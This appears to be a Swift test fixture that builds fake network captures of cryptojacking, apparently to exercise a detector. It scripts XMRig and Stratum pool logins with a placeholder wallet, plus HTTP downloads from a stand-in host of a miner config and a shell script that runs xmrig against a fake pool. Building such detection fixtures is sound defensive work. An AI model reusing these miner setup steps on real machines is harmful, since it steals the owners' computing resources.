import TestSupport

extension Scenario {
    /// Coins mined on machines of others.
    static var miners: [Scenario] { [pool, minerSetup] }

    /// Ninety-five letters in the form of a wallet; nobody has its key.
    private static let wallet = "4A" + String(repeating: "Dientap", count: 13) + "Dp"

    private static var pool: Scenario {
        var story = Story(port: 41010)
        let server = "203.0.113.96"
        story.talk("198.51.100.41", server, 3333) { talk in
            talk.client(
                sends: #"{"id":1,"method":"mining.subscribe","params":["drill/1.0"]}"# + "\n"
                    + #"{"id":2,"method":"mining.authorize","params":["drill","x"]}"# + "\n")
            let hash = String(repeating: "d411", count: 16)
            talk.server(sends: #"{"id":1,"result":[[],"d411",4],"error":null}"# + "\n")
            talk.server(
                sends: #"{"id":null,"method":"mining.notify","params":["a1",""# + hash
                    + #"","01","02",[],"20000000","1d00ffff","6a",true]}"# + "\n", segment: 50)
        }
        story.talk("198.51.100.42", server, 14444) { talk in
            talk.client(
                sends: #"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":""# + wallet
                    + #"","pass":"x","agent":"XMRig/6.0 (drill)","algo":["rx/0"]}}"# + "\n", segment: 40)
            let blob = String(repeating: "d4", count: 76)
            talk.server(
                sends: #"{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a1","job":{"blob":""# + blob
                    + #"","job_id":"b2","target":"b88d0600","algo":"rx/0"},"status":"OK"}}"# + "\n")
        }
        return Scenario("malware/miner-pool", story.frames)
    }

    private static var minerSetup: Scenario {
        var story = Story(port: 41020)
        func fetch(_ name: String, _ text: String) {
            story.web(
                "198.51.100.43", "203.0.113.67",
                asks: Text.request("GET", "/\(name)", host: "capnhat.example"),
                gets: Text.response(text, type: "text/plain"))
        }
        fetch(
            "config.json",
            "{\n  \"autosave\": true,\n  \"donate-level\": 1,\n  \"pools\": [\n    {\n"
                + "      \"url\": \"drill.invalid:3333\",\n      \"user\": \"\(wallet)\",\n"
                + "      \"keepalive\": true\n    }\n  ]\n}\n")
        fetch("chay.sh", "#!/bin/sh\n# dien tap\n./xmrig -o drill.invalid:3333 -u \(wallet) -p x\n")
        return Scenario("malware/miner-setup", story.frames)
    }
}
